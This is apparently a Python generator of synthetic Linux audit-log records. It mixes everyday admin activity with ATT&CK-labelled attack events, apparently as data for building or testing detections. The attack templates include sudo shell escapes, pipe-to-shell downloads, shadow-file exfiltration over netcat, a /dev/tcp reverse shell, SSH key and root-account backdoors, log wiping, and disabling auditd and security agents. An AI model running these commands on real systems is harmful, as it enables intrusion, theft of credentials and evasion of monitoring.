# ruff: noqa: E501
"""What user space and the kernel report to audit of their own accord: `TYPE ;; who ;; body`, daily work and attacks.

who (root, admin, user, web, svc, db, out) gives pid, uid, login uid and session; a body of user space is wrapped in msg='...', one that
begins with `=` is the kernel's and stands as it is, `{ids}` in it being the numbers. `{hex:...}` is written as audit writes what holds blanks.
"""
from __future__ import annotations

from .process_grammar import written
from .process_linux import FRAGMENTS
from .table import table

NOTE_FRAGMENTS = {
    **FRAGMENTS,
    "host": "hostname=«ip» addr=«ip»", "far": "hostname=«pub» addr=«pub»", "near": "hostname=«?|«linux»» addr=? terminal=«pts/«num:0:6»|/dev/pts/«num:0:6»|tty«num:1:3»»",
    "look": "«id|whoami|uname -a|cat /etc/passwd|ls -la /root|ps aux|ss -tunap|sudo -l|cat /etc/shadow|w|last|find / -perm -4000|env|crontab -l|history»",
    "confined": "«httpd_t|mysqld_t|postgresql_t|named_t|dovecot_t|sshd_t|smbd_t|container_t|cupsd_t|snmpd_t|php_fpm_t|zabbix_agent_t|tomcat_t»",
}
NOTES = table(written(r"""
# note logins of people
USER_AUTH ;; out ;; op=PAM:authentication grantors=«pam_unix|pam_sss|pam_unix,pam_google_authenticator» acct="«user»" exe="/usr/sbin/sshd" ‹host› terminal=ssh res=success
USER_LOGIN ;; user ;; op=login id=«num:1000:3000» exe="/usr/sbin/sshd" hostname=«ip» addr=«ip» terminal=«ssh|/dev/pts/«num:0:9»» res=success
USER_ACCT ;; out ;; op=PAM:accounting grantors=pam_unix,pam_localuser acct="«user»" exe="«/usr/sbin/sshd|/usr/libexec/gdm-session-worker|/usr/bin/login»" ‹host› terminal=«ssh|tty2» res=success
«USER_START|USER_END|CRED_ACQ|CRED_DISP|CRED_REFR» ;; user ;; op=PAM:«session_open|session_close|setcred» grantors=pam_selinux,pam_keyinit,pam_limits,pam_systemd,pam_unix acct="«user»" exe="/usr/sbin/sshd" ‹host› terminal=ssh res=success
LOGIN ;; root ;; =pid={pid} uid=0 old-auid=4294967295 auid=«num:1000:3000» tty=(none) old-ses=4294967295 ses=«num:1:9000» res=1
# note logins mistyped
USER_AUTH ;; out ;; op=PAM:authentication grantors=? acct="«user»" exe="«/usr/sbin/sshd|/usr/bin/sudo|/usr/libexec/gdm-session-worker»" ‹host› terminal=ssh res=failed
# note keys of sessions
CRYPTO_SESSION ;; out ;; op=start direction=from-«client|server» cipher=«chacha20-poly1305@openssh.com|aes256-gcm@openssh.com» ksize=«256|512» mac=<implicit> pfs=curve25519-sha256 spid=«num:1000:60000» suid=74 rport=«num:1024:65000» laddr=«ip2» lport=22 exe="/usr/sbin/sshd" hostname=? addr=«ip» terminal=? res=success
CRYPTO_KEY_USER ;; out ;; op=destroy kind=server fp=SHA256:«hex:2»:«hex:2»:«hex:2»:«hex:2» direction=? spid=«num:1000:60000» suid=0 exe="/usr/sbin/sshd" hostname=? addr=«ip» terminal=? res=success
# note services of timers and users at work
«SERVICE_START|SERVICE_STOP» ;; root ;; unit=«logrotate|systemd-tmpfiles-clean|user@«num:1000:3000»|dnf-makecache|apt-daily|fstrim|man-db|packagekit|fwupd-refresh|sysstat-collect|certbot|phpsessionclean|systemd-hostnamed|systemd-timedated|geoclue|motd-news|user-runtime-dir@«num:1000:3000»» comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success
«SERVICE_START|SERVICE_STOP» ;; root ;; unit=«nginx|postgresql|mysqld|docker|«word»|php-fpm|node_exporter|redis|haproxy|«word»-worker@«num:1:8»|auditd|rsyslog|firewalld|sshd» comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=«success|success|success|failed»
«SYSTEM_BOOT|SYSTEM_RUNLEVEL|SYSTEM_SHUTDOWN» ;; root ;; comm="systemd-update-utmp" exe="/usr/lib/systemd/systemd-update-utmp" hostname=? addr=? terminal=? res=success
# note cron sessions
«USER_ACCT|CRED_ACQ|USER_START|CRED_DISP|USER_END|CRED_REFR» ;; svc ;; op=PAM:«accounting|setcred|session_open|session_close» grantors=pam_permit,pam_loginuid acct="«root|root|«svc»|www-data|postgres»" exe="/usr/sbin/«cron|crond»" hostname=? addr=? terminal=cron res=success
LOGIN ;; root ;; =pid={pid} uid=0 subj=«unconfined|system_u:system_r:crond_t:s0-s0:c0.c1023» old-auid=4294967295 auid=0 tty=(none) old-ses=4294967295 ses=«num:1:99000» res=1
# note sudo work
USER_CMD ;; user ;; cwd="/home/«user»" cmd={hex:«systemctl «restart|status|reload» ‹unit›|apt-get -y upgrade|journalctl -u «word» -f|tail -n 50 /var/log/auth.log|vim /etc/«word»/«word».conf|docker compose up -d|less /etc/sudoers|cat /etc/shadow|chown -R www-data:www-data /var/www/«word»|kubectl get pods -A|useradd -m «first»|passwd «other»|tcpdump -ni eth0 port 53|mount /mnt/«word»|visudo|ufw allow 443/tcp|auditctl -l|find / -perm -4000 -type f|rm -rf /opt/«word»/releases/old|systemctl stop auditd|setenforce 0|iptables -L -n|crontab -l -u «svc»|bash|nmap -sV «ip2»|tar czf /backup/etc.tgz /etc|modprobe wireguard|chmod 4755 /usr/bin/newuidmap|lsof -i|strace -p «num:300:60000»|dmesg»} exe="/usr/bin/sudo" terminal=pts/«num:0:6» res=«success|success|success|failed»
# note sudo of services
USER_CMD ;; svc ;; cwd="/" cmd={hex:«/usr/lib/nagios/plugins/check_raid -w 1|/usr/sbin/smartctl -a /dev/sda|/usr/bin/systemctl restart «word»|/usr/local/bin/deploy «word»|/usr/bin/docker ps|/usr/bin/rsync --server --sender -logDtpre.iLsf . /srv|/bin/netstat -plnt|/usr/bin/fail2ban-client status sshd»} exe="/usr/bin/sudo" terminal=? res=success
# note sessions as another
«USER_START|CRED_REFR|USER_ACCT|CRED_ACQ» ;; admin ;; op=PAM:«session_open|setcred|accounting» grantors=pam_keyinit,pam_limits,pam_unix acct="«root|«svc»»" exe="/usr/bin/«sudo|su»" ‹near› res=success
USER_AUTH ;; admin ;; op=PAM:authentication grantors=«pam_unix|pam_rootok|?» acct="«root|«admin»|«svc»|postgres»" exe="/usr/bin/«su|sudo»" ‹near› res=«success|success|failed»
# note accounts kept by administrators
«ADD_USER|ADD_GROUP|USER_MGMT|GRP_MGMT» ;; admin ;; op=«adding user|add-user|adding group|add-home-dir|adding user to group|adding user to shadow group|changing uid|changing home directory|changing primary group» acct="«first»«|.«last»»" grp="«dept»" exe="/usr/sbin/«useradd|usermod|groupadd»" ‹near› res=success
«USER_CHAUTHTOK|USER_MGMT|ACCT_LOCK|ACCT_UNLOCK» ;; admin ;; op=«PAM:chauthtok|change password|changing password|change age|lock password|unlock password|updating-password» acct="«other»" exe="/usr/«bin/passwd|bin/chage|sbin/usermod|sbin/chpasswd»" ‹near› res=success
«DEL_USER|DEL_GROUP» ;; admin ;; op=«deleting user|delete-user|deleting group|deleting home directory» acct="«first»" exe="/usr/sbin/«userdel|groupdel»" ‹near› res=success
# note accounts that packages make
«ADD_USER|ADD_GROUP|USER_MGMT» ;; root ;; op=«adding user|adding group|add-user» acct="«postgres|nginx|docker|«word»|systemd-resolve|mysql|redis|tss|_apt|gnome-initial-setup»" exe="/usr/sbin/«useradd|groupadd|usermod»" hostname=? addr=? terminal=? res=success
# note audit loaded and kept
CONFIG_CHANGE ;; root ;; =auid=4294967295 ses=4294967295 subj=unconfined op=«add_rule|remove_rule» key="«identity|time-change|privileged|modules|logins|exec|MAC-policy|perm_mod|sudoers»" list=4 res=1
CONFIG_CHANGE ;; root ;; =op=set audit_«backlog_limit=8192 old=64|failure=1 old=1|enabled=1 old=1|pid=«num:300:2000» old=0|rate_limit=0 old=0|backlog_wait_time=60000 old=15000» auid=4294967295 ses=4294967295 subj=«unconfined|system_u:system_r:auditd_t:s0» res=1
«DAEMON_START|DAEMON_END|DAEMON_ROTATE|DAEMON_RESUME» ;; root ;; =op=«start ver=3.0.7 format=enriched kernel=5.15.0-«num:40:120»-generic|terminate|rotate-logs|resume-logging» auid=4294967295 pid={pid} uid=0 ses=4294967295 subj=unconfined res=success
CONFIG_CHANGE ;; admin ;; ={ids} subj=unconfined op=«add_rule|remove_rule|updated_rules» path="/etc/«word»/«word».conf" key="«word»" list=4 res=1
# note policies by day
AVC ;; svc ;; =avc:  denied  { «read|open|getattr|search|name_connect|name_bind|write» } for  pid={pid} comm="«httpd|nginx|mysqld|zabbix_agentd|postfix|sssd|«word»|logrotate»" «name="«word».«conf|log|sock»" dev="dm-0" ino=«num:1000:999999»|dest=«5432|3306|6379|11211|9000»|path="/srv/«word»/«word».html" dev="sda1" ino=«num:1000:999999»» scontext=system_u:system_r:‹confined›:s0 tcontext=«unconfined_u:object_r:user_home_t:s0|system_u:object_r:var_t:s0|system_u:object_r:postgresql_port_t:s0|unconfined_u:object_r:default_t:s0» tclass=«file|dir|tcp_socket|sock_file» permissive=«0|0|1»
# note profiles by day
AVC ;; svc ;; =apparmor="«DENIED|ALLOWED|STATUS»" operation="«open|profile_load|profile_replace|mknod|capable|file_mmap»" profile="«snap.«word».«word»|/usr/sbin/cups-browsed|unconfined|/usr/bin/evince|docker-default|nvidia_modprobe»" name="/«proc/«num:100:9000»/«cmdline|mountinfo»|etc/«word»/«word»|usr/lib/«word».so|run/user/1000/«word»»" pid={pid} comm="«snap-confine|apparmor_parser|cups-browsed|evince|«word»»" requested_mask="r" denied_mask="r" fsuid=«0|1000» ouid=0
«MAC_POLICY_LOAD|USER_MAC_POLICY_LOAD» ;; root ;; =auid=4294967295 ses=4294967295 lsm=selinux res=1
USER_AVC ;; root ;; avc:  «received policyload notice (seqno=«num:2:9»)|denied  { send_msg } for  scontext=system_u:system_r:«word»_t:s0 tcontext=system_u:system_r:init_t:s0 tclass=dbus permissive=0» exe="/usr/bin/dbus-daemon" sauid=81 hostname=? addr=? terminal=?
# note kernels firewalls and programs by day
NETFILTER_CFG ;; root ;; =table=«filter|nat|mangle|docker»:«num:2:900» family=2 entries=«num:1:90» op=«nft_register_rule|xt_replace|nft_register_chain|nft_unregister_rule|xt_register» pid={pid} subj=«unconfined|system_u:system_r:iptables_t:s0» comm="«iptables|dockerd|firewalld|iptables-nft-re|kube-proxy|nft|ufw-init|fail2ban-client|tailscaled»"
# note programs and modules loaded by day
BPF ;; root ;; =prog-id=«num:10:9000» op=«LOAD|UNLOAD|LOAD|UNLOAD|ATTACH»
KERN_MODULE ;; root ;; =name="«xt_conntrack|overlay|br_netfilter|veth|nf_tables|nvidia|zfs|wireguard|iptable_nat|tun|ip_set|nfsd|loop|kvm_intel»"
# note bridges of containers
ANOM_PROMISCUOUS ;; root ;; =dev=«veth«hex:7»|docker0|br-«hex:12»|cni0|bond0|vnet«num:0:20»|virbr0-nic|eth0» prom=256 old_prom=0 auid=4294967295 uid=0 gid=0 ses=4294967295
# note programs that crash
ANOM_ABEND ;; user ;; ={ids} subj=unconfined pid={pid} comm="«chrome|firefox|gnome-shell|node|java|python3|«word»|steam|code»" exe="/«usr/bin|opt/«word»|usr/lib/«word»»/«word»" sig=«6|11|5|4» res=1
SECCOMP ;; user ;; ={ids} subj=«unconfined|snap.«word»» pid={pid} comm="«chrome|firefox|snap-exec|Web Content|«word»»" exe="/«opt/google/chrome/chrome|usr/lib/firefox/firefox|snap/«word»/«num:10:900»/bin/«word»|usr/bin/man»" sig=«0|31» arch=c000003e syscall=«203|330|314|257|41|439» compat=0 ip=0x7f«hex:10» code=0x«50000|7ffc0000»
CAPSET ;; root ;; =pid={pid} cap_pi=0 cap_pp=«0|00000000a80425fb|3fffffffff» cap_pe=«0|00000000a80425fb|1000» cap_pa=0
«TIME_ADJNTPVAL|TIME_INJOFFSET» ;; root ;; =op=«freq|offset|tick|status» old=«num:100:99999» new=«num:100:99999»
# note what is typed by administrators
«TTY|USER_TTY» ;; admin ;; =pid={pid} {ids} major=136 minor=«num:0:6» comm="«bash|sudo|vim|mysql»" data={hex:«systemctl status ‹unit›|ls -la /etc/«word»|cd /var/www/«word» && git pull|journalctl -xe|apt update|vi /etc/hosts|df -h|exit|tail -f /var/log/messages|docker ps|cat /etc/passwd|who|ss -tlnp|passwd «other»|crontab -l|chmod 644 «word».conf|ip a|top|history|visudo|reboot|id «other»|curl -I localhost»}
# note things plugged in and machines moved
«VIRT_CONTROL|VIRT_RESOURCE|VIRT_MACHINE_ID» ;; root ;; virt=kvm op=«start|stop|create» reason=«booted|shutdown|migrated» vm="«word»-«num:1:20»" uuid=«guid» vm-pid=«num:1000:60000» exe="/usr/sbin/libvirtd" hostname=? addr=? terminal=? res=success
SOFTWARE_UPDATE ;; admin ;; sw="«word»-«num:1:9».«num:0:30»-«num:1:9».el«num:7:9».x86_64" sw_type=rpm key_enforce=0 gpg_res=«1|1|0» root_dir="/" comm="«dnf|yum|rpm|packagekitd»" exe="/usr/bin/python3.«num:6:12»" ‹near› res=success
«USER_DEVICE|DEV_ALLOC» ;; root ;; op="appear" device="/devices/pci0000:00/0000:00:14.0/usb1/1-«num:1:9»" target=allow uuid=«num:1000:9999» exe="/usr/sbin/usbguard-daemon" hostname=? addr=? terminal=? res=success
# note policies changed with cause
«MAC_STATUS|MAC_CONFIG_CHANGE» ;; «admin|root» ;; =«enforcing=1 old_enforcing=0|enforcing=0 old_enforcing=0|bool=«httpd_can_network_connect_db|samba_enable_home_dirs|nis_enabled|use_nfs_home_dirs» val=1 old_val=0» {ids} enabled=1 old-enabled=1 lsm=selinux res=1
AVC ;; «root|admin» ;; =apparmor="STATUS" operation="«profile_load|profile_replace»" profile="unconfined" name="«/usr/sbin/«mysqld|cupsd|ntpd|named»|snap.«word».«word»|docker-default|lsb_release|/usr/bin/man»" pid={pid} comm="apparmor_parser"
NETFILTER_CFG ;; «root|admin» ;; =table=«filter|nat|firewalld»:«num:2:90» family=«2|10» entries=«num:4:200» op=«nft_register_rule|nft_register_table|xt_replace|nft_unregister_rule|nft_register_chain|nft_unregister_chain» pid={pid} subj=unconfined comm="«ufw|firewalld|iptables-restor|nft|firewall-cmd|shorewall»"
«USER_ROLE_CHANGE|ROLE_ASSIGN|FS_RELABEL|LABEL_OVERRIDE» ;; «admin|user» ;; op=«pam_selinux|login-sename|restorecon» default-context=unconfined_u:unconfined_r:unconfined_t:s0 selected-context=unconfined_u:unconfined_r:unconfined_t:s0 exe="/usr/sbin/«sshd|restorecon|semanage»" hostname=«ip» addr=«ip» terminal=ssh res=success
# note desktops and consoles
«USER_START|USER_END|USER_AUTH|CRED_ACQ|USER_ACCT» ;; user ;; op=PAM:«session_open|session_close|authentication|setcred|accounting» grantors=pam_unix,pam_gnome_keyring,pam_systemd acct="«user»" exe="/usr/«libexec/gdm-session-worker|lib/polkit-1/polkit-agent-helper-1|bin/login|libexec/kscreenlocker_greet|bin/gnome-screensaver-dialog|sbin/lightdm»" hostname=«linux» addr=? terminal=«/dev/tty1|/dev/tty2|:0» res=«success|success|failed»
«USER_LOGIN|USER_LOGOUT» ;; user ;; op=«login|logout» id=«num:1000:3000» exe="/usr/«bin/login|libexec/gdm-session-worker|sbin/lightdm»" hostname=«linux» addr=? terminal=«/dev/tty1|tty2|:0» res=success
# note databases mail and files let in
«USER_AUTH|USER_ACCT|USER_START|CRED_ACQ» ;; svc ;; op=PAM:«authentication|accounting|session_open|setcred» grantors=«pam_unix|pam_sss|pam_permit» acct="«user»" exe="/usr/«sbin/smbd|libexec/dovecot/auth|sbin/vsftpd|sbin/xrdp-sesman|sbin/cockpit-session|lib/openssh/sftp-server|sbin/openvpn|bin/vlock»" hostname=«ip» addr=«ip» terminal=«samba|dovecot|ftp|xrdp-sesman|?» res=«success|success|success|failed»
# note services of work stopped and started
«SERVICE_STOP|SERVICE_START» ;; «root|admin» ;; unit=«mysql|postgresql|docker|nginx|libvirtd|veeamservice|elasticsearch|mongod|httpd|redis-server|rabbitmq-server|tomcat9|gitlab-runsvdir|bacula-fd|kubelet|ssh|cron|postfix» comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success
VIRT_CONTROL ;; «root|admin» ;; virt=«kvm|qemu|lxc» op=«stop|start» reason=«shutdown|booted|saved|migrated» vm="«word»-«num:1:40»" uuid=«guid» vm-pid=-1 exe="/usr/sbin/libvirtd" hostname=? addr=? terminal=? res=success
# note passwords changed by their owners
«USER_CHAUTHTOK|USER_AUTH» ;; user ;; op=PAM:«chauthtok|authentication» grantors=pam_pwquality,pam_unix acct="«user»" exe="/usr/bin/passwd" ‹near› res=«success|success|failed»
# T1110.001 note passwords guessed at the door
«USER_AUTH|USER_ERR» ;; out ;; op=PAM:«authentication|bad_ident» grantors=? acct="«root|admin|test|oracle|postgres|ubuntu|git|«first»|(unknown)|pi|user|ftpuser|?»" exe="/usr/sbin/sshd" ‹far› terminal=ssh res=failed
USER_LOGIN ;; out ;; op=login acct="«root|(unknown)|(invalid user)|admin|{hex:invalid user}»" exe="/usr/sbin/sshd" ‹far› terminal=«ssh|sshd» res=failed
«ANOM_LOGIN_FAILURES|RESP_ACCT_LOCK|ANOM_LOGIN_SESSIONS|ANOM_LOGIN_TIME» ;; out ;; =pid={pid} uid=0 auid=«num:1000:3000» ses=4294967295 msg='pam_«faillock|tally2» uid=«num:0:3000»  exe="/usr/sbin/sshd" ‹far› terminal=ssh res=success'
# T1078.003 note logins of strangers
«USER_AUTH|USER_ACCT|USER_START|CRED_ACQ» ;; out ;; op=PAM:«authentication|accounting|session_open|setcred» grantors=pam_unix acct="«root|www-data|nobody|postgres|mysql|daemon|«svc»»" exe="/usr/sbin/sshd" ‹far› terminal=ssh res=success
USER_LOGIN ;; root ;; op=login id=«0|33|65534|112» exe="/usr/sbin/sshd" hostname=«pub» addr=«pub» terminal=/dev/pts/«num:0:9» res=success
LOGIN ;; root ;; =pid={pid} uid=0 old-auid=4294967295 auid=«33|65534|27|112|«num:100:900»» tty=«pts«num:0:6»|(none)» old-ses=4294967295 ses=«num:1:9000» res=1
# T1548.003 note sudo misused
USER_CMD ;; «user|web|svc|db» ;; cwd="«/tmp|/dev/shm|/var/www/html|/home/«user»|/var/tmp»" cmd={hex:«find . -exec /bin/sh ; -quit|vim -c :!/bin/sh|-u#-1 /bin/bash|awk BEGIN {system("/bin/sh")}|env /bin/sh|cp /bin/bash /tmp/.«letters:2»|chmod u+s /bin/«bash|dash|find»|tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh|bash -c curl ‹bad-url›¦sh|python3 -c import os;os.system("/bin/sh")|less /etc/profile|nmap --interactive|tee -a /etc/sudoers|perl -e exec "/bin/sh"|LD_PRELOAD=/tmp/«letters:3».so apache2|cat /etc/shadow ¦ nc «peer» «port»|dd if=/etc/shadow of=/tmp/«letters:2»|/bin/sh -p|‹bin›|sed -n 1e exec sh /etc/hosts»} exe="/usr/bin/sudo" terminal=«pts/«num:0:6»|?» res=«success|success|failed»
USER_CMD ;; «web|db|svc» ;; cwd="«/|/var/www/html|/tmp»" cmd={hex:«list|-l|id|bash|su|/bin/sh|cat /etc/shadow|whoami|systemctl daemon-reload|apt-get changelog apt»} exe="/usr/bin/sudo" terminal=«?|pts/0» res=«failed|success»
USER_AUTH ;; «web|db|svc» ;; op=PAM:authentication grantors=? acct="«www-data|postgres|mysql|apache|nobody|tomcat»" exe="/usr/bin/«sudo|su|pkexec»" hostname=? addr=? terminal=«?|/dev/pts/«num:0:3»» res=failed
# T1110.003 note su tried over and over
USER_AUTH ;; «web|db|svc» ;; op=PAM:authentication grantors=? acct="«root|«admin»|«other»»" exe="/usr/bin/su" hostname=? addr=? terminal=«?|(none)|pts/«num:0:9»» res=failed
«USER_START|USER_ACCT|CRED_ACQ» ;; «web|db|svc» ;; op=PAM:«session_open|accounting|setcred» grantors=pam_unix acct="root" exe="/usr/bin/«su|pkexec|sudo»" hostname=? addr=? terminal=«?|pts/«num:0:4»» res=success
# T1136.001 note accounts of strangers
«ADD_USER|USER_MGMT» ;; «root|web|svc|admin» ;; op=«adding user|add-user|changing uid» id=0 acct="«letters:3:6»" exe="/usr/sbin/«useradd|usermod»" hostname=? addr=? terminal=«?|pts/«num:0:4»» res=success
«USER_MGMT|GRP_MGMT|ROLE_ASSIGN» ;; «root|web|svc» ;; op=«adding user to group|add-user-to-group|adding user to shadow group» grp="«sudo|wheel|root|shadow|docker|adm|lxd|disk»" acct="«www-data|nobody|postgres|«letters:4»|mysql|games|lp»" exe="/usr/sbin/«usermod|gpasswd»" hostname=? addr=? terminal=«?|pts/«num:0:4»» res=success
«USER_CHAUTHTOK|USER_MGMT|ACCT_UNLOCK» ;; «root|web|svc» ;; op=«PAM:chauthtok|change password|changing user shell|unlock password|delete-password» acct="«root|www-data|nobody|postgres|games|sync|«letters:4»»" exe="/usr/«bin/passwd|sbin/chpasswd|sbin/usermod|bin/chsh»" hostname=? addr=? terminal=«?|pts/«num:0:4»» res=success
«ADD_USER|ADD_GROUP» ;; «web|svc|db» ;; op=«adding user|adding home directory» acct="««letters:3:5»«num:1:99»|systemd-«letters:4»|«svc»2|support|ftp2»" exe="/usr/sbin/useradd" hostname=«?|«pub»» addr=«?|«pub»» terminal=? res=success
# T1562.012 note audit put out
CONFIG_CHANGE ;; «admin|root|web» ;; =op=set audit_enabled=0 old=1 {ids} subj=unconfined res=1
CONFIG_CHANGE ;; «admin|web|user» ;; ={ids} subj=unconfined op=remove_rule «key="«identity|exec|sudoers|logins|modules|privileged|perm_mod|susp»"|path="/etc/«shadow|passwd|sudoers|ld.so.preload»" key="identity"|key=(null)» list=«4|1» res=«1|1|0»
CONFIG_CHANGE ;; «admin|web|user» ;; =op=set audit_«backlog_limit=0 old=8192|rate_limit=1 old=0|failure=0 old=1|pid=0 old=«num:300:2000»|backlog_wait_time=0 old=60000» {ids} subj=unconfined res=1
DAEMON_«END|ABORT|CONFIG» ;; admin ;; =op=«terminate|killed|reconfigure state=changed» {ids} pid={pid} subj=unconfined_u:unconfined_r:unconfined_t:s0-s0:c0.c1023 res=success
SERVICE_STOP ;; admin ;; unit=«auditd|rsyslog|systemd-journald|falcon-sensor|wazuh-agent|osqueryd|falco|auditbeat|sysmon|mdatp» comm="«systemctl|systemd»" exe="/usr/«bin/systemctl|lib/systemd/systemd»" hostname=? addr=? terminal=«pts/«num:0:4»|?» res=success
# T1562.001 note policies put out
MAC_STATUS ;; «admin|web|root» ;; =enforcing=0 old_enforcing=1 {ids} enabled=1 old-enabled=1 lsm=selinux res=1
«MAC_CONFIG_CHANGE|USER_MAC_CONFIG_CHANGE» ;; «admin|web» ;; =bool=«httpd_can_network_connect|allow_execstack|httpd_execmem|allow_execheap|secure_mode_insmod|deny_ptrace|daemons_enable_cluster_mode» val=«1|0» old_val=0 {ids} res=1
AVC ;; «admin|web» ;; =apparmor="STATUS" operation="profile_remove" profile="unconfined" name="«/usr/sbin/«mysqld|nginx|sshd|tcpdump|named»|docker-default|/usr/bin/man»" pid={pid} comm="«apparmor_parser|aa-remove-unkno|«letters:4»»"
NETFILTER_CFG ;; «admin|web» ;; =table=filter:«num:2:90» family=2 entries=«0|1|4» op=«nft_unregister_table|xt_unregister|nft_unregister_chain|nft_unregister_table» pid={pid} subj=unconfined comm="«iptables|nft|«letters:4»|sh|python3|perl|xtables-nft-mul»"
# T1190 note confined daemons break out
AVC ;; «svc|web» ;; =avc:  denied  { «execute|execute_no_trans|execmem|name_connect|name_bind|ptrace|sys_admin|read|write|module_load|setattr|map|dac_override|entrypoint|transition» } for  pid={pid} comm="«sh|bash|python3|perl|curl|wget|nc|«letters:4»|php-fpm|java|mysqld|id|cat»" «name="«sh|bash|shadow|python3|gcc|curl|sudoers|id_rsa|crontab|authorized_keys|passwd|docker.sock»" dev="dm-0" ino=«num:1000:999999»|dest=«4444|1337|8443|9001|«port»|22|445»|path="«/tmp/.«letters:2»|/dev/shm/«letters:4»|/etc/shadow|/root/.ssh/id_rsa|/var/spool/cron/root|/usr/bin/bash»" dev="dm-0" ino=«num:1000:999999»|capability=21» scontext=system_u:system_r:‹confined›:s0 tcontext=«system_u:object_r:«shell_exec_t|shadow_t|ssh_home_t|bin_t|admin_home_t|user_cron_spool_t|etc_t|container_runtime_t»:s0|system_u:object_r:«unreserved_port_t|ssh_port_t|smbd_port_t»:s0|unconfined_u:object_r:«user_tmp_t|admin_home_t|tmpfs_t»:s0|system_u:system_r:«init_t|unconfined_t|sshd_t»:s0» tclass=«file|tcp_socket|process|capability|file|system» permissive=«0|1»
AVC ;; web ;; =apparmor="DENIED" operation="«exec|open|mknod|ptrace|mount|connect|file_perm|capable|signal»" profile="«/usr/sbin/«mysqld|named|apache2|cupsd|tcpdump|nginx|php-fpm»|docker-default|cri-containerd.apparmor.d|/usr/lib/snapd/snap-confine»" name="«/bin/«sh|bash|dash»|/etc/«shadow|cron.d/«letters:4»|ld.so.preload|passwd»|/root/.ssh/authorized_keys|/tmp/.«letters:3»|/usr/bin/«wget|curl|python3|id»|/proc/«sysrq-trigger|sys/kernel/core_pattern|1/root»|/var/www/html/«letters:3:6».php|/run/docker.sock»" pid={pid} comm="«sh|mysqld|apache2|«letters:4»|python3|php-fpm|runc|cat»" requested_mask="«x|r|w|wc|trace|c»" denied_mask="«x|r|w|wc|trace|c»" fsuid=«33|27|0|112» ouid=0
# T1211 note programs broken by force
ANOM_ABEND ;; «svc|web|user|db» ;; ={ids} subj=«system_u:system_r:‹confined›:s0|unconfined» pid={pid} comm="«sudo|pkexec|su|sshd|nginx|httpd|polkitd|exim4|smbd|mysqld|named|dbus-daemon|sudoedit|at|newgrp|chsh|dnsmasq|php-fpm|cupsd»" exe="/usr/«bin/«sudo|pkexec|su|newgrp|sudoedit|at|chsh»|sbin/«sshd|nginx|httpd|exim4|named|smbd|dnsmasq|cupsd»|lib/polkit-1/polkitd»" sig=«11|6|4|7» res=1
SECCOMP ;; «web|svc|user» ;; ={ids} subj=«system_u:system_r:container_t:s0:c1,c2|unconfined|docker-default» pid={pid} comm="«sh|bash|«letters:3:6»|python3|exploit|nsenter|unshare|perl»" exe="«‹bin›|/bin/«sh|busybox»|/usr/bin/«python3|perl|nsenter|unshare»»" sig=«0|31» arch=c000003e syscall=«101|165|175|246|272|298|304|308|310|311|313|321|319|155|135|250|434» compat=0 ip=0x7f«hex:10» code=0x«50000|7ffc0000|80000000»
ANOM_LINK ;; «user|web|svc» ;; =op=«follow_link|linkat» ppid=«num:300:60000» pid={pid} {ids} tty=(none) comm="«letters:2:6»" exe="«‹bin›|/usr/bin/«ln|bash|python3|perl»»" subj=unconfined res=0
«ANOM_ROOT_TRANS|ANOM_EXEC|ANOM_MK_EXEC|ANOM_ACCESS_FS|ANOM_ADD_ACCT» ;; «web|user» ;; =pid={pid} {ids} msg='op=«root-transition|exec|make-executable|access» comm="«letters:3:6»" exe="‹bin›" hostname=? addr=? terminal=«?|pts/«num:0:4»» res=success'
# T1547.006 note modules of strangers
KERN_MODULE ;; root ;; =name="«diamorphine|reptile_module|«letters:3:6»|rootkit|«letters:2»_«letters:4»|nf_«letters:5»|hid_«letters:4»x|kovid|puma»"
ANOM_MOD_ACCT ;; web ;; =pid={pid} {ids} msg='op=changing acct="root" exe="‹bin›" hostname=? addr=? terminal=? res=success'
INTEGRITY_«RULE|DATA|STATUS|PCR» ;; «root|web|user» ;; ={ids} op=«appraise_data cause=«invalid-hash|missing-hash|invalid-signature»|module_sig|policy_update cause=completed» comm="«insmod|«letters:4»|modprobe|bash|sh»" name="‹hide›/«letters:3:6»«.ko|»" dev="dm-0" ino=«num:1000:999999» res=0
# T1014 note eyes put into the network
ANOM_PROMISCUOUS ;; admin ;; =dev=«eth0|ens3|ens192|enp0s3|any|bond0|wlan0» prom=256 old_prom=0 auid=«num:1000:3000» uid=0 gid=0 ses=«num:1:3000»
ANOM_PROMISCUOUS ;; web ;; =dev=«eth0|ens3|lo|eno1» prom=256 old_prom=0 auid=«33|48|27» uid=«0|33» gid=33 ses=«num:1:3000»
# T1059.004 note what strangers type
«TTY|USER_TTY» ;; «web|db|svc|user» ;; =pid={pid} {ids} major=136 minor=«num:0:6» comm="«bash|sh|python3»" data={hex:«unset HISTFILE; ‹look›|wget ‹bad-url›; chmod +x «letters:3»; ./«letters:3»|curl -s ‹bad-url›¦bash|python3 -c 'import pty;pty.spawn("/bin/bash")'|export HISTSIZE=0; export TERM=xterm|cd /dev/shm; ls -la; ./«letters:3»|echo ssh-rsa AAAA«b64:12» >> ~/.ssh/authorized_keys|stty raw -echo; fg|rm -rf /var/log/*; history -c|cat /etc/shadow|tee /etc/ld.so.preload|nc «peer» «port» < /etc/passwd|find / -name id_rsa 2>/dev/null|chattr -ia /etc/passwd; echo x::0:0::/:/bin/sh >> /etc/passwd|‹look›; ‹look›|kill -9 $$|bash -i >& /dev/tcp/«peer»/«port» 0>&1|insmod «letters:4».ko|crontab ‹hide›/«letters:2»|masscan «ip2»/16 -p22|docker run -v /:/h -it alpine chroot /h|touch -r /bin/ls ‹bin›|iptables -F»}
# T1543.002 note units of strangers
«SERVICE_START|SERVICE_STOP|SERVICE_START» ;; «root|admin» ;; unit=«dbus-«letters:4»|systemd-«letters:5»d|«letters:4:8»|kworker-«letters:3»|network-«letters:4»|gs-dbus|.«letters:4»|pwnrig|sshd-«letters:3»|c3pool_miner|«hex:8»|run-r«hex:16»» comm="«systemd|systemd-run|«letters:4»»" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=«?|pts/«num:0:4»» res=«success|success|failed»
SOFTWARE_UPDATE ;; «root|web|admin» ;; sw="«xmrig|masscan|proxychains-ng|hydra|«letters:5»|tor|john|nmap-ncat»-«num:1:9».«num:0:30»" sw_type=rpm key_enforce=0 gpg_res=0 root_dir="/" comm="rpm" exe="/usr/bin/rpm" hostname=? addr=? terminal=«?|pts/«num:0:4»» res=success
# T1070.006 note clocks turned back
